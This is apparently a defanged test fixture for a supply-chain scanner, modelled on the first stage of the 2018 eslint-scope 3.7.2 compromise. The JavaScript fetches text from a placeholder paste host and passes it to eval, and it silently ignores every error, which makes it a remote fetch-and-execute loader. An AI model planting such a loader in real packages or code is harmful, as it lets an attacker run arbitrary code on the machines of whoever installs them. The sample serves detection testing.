// DEFANGED TEST SAMPLE for chainwarden inspect (shape of the 2018
// eslint-scope 3.7.2 first stage): fetch text and eval it.
try {
  var https = require('https');
  https.get({ hostname: 'paste.example.invalid', path: '/raw/XXXXXXXX',
    headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } }, (r) => {
    r.setEncoding('utf8');
    r.on('data', (c) => { eval(c); });
    r.on('error', () => {});
  }).on('error', () => {});
} catch (e) {}
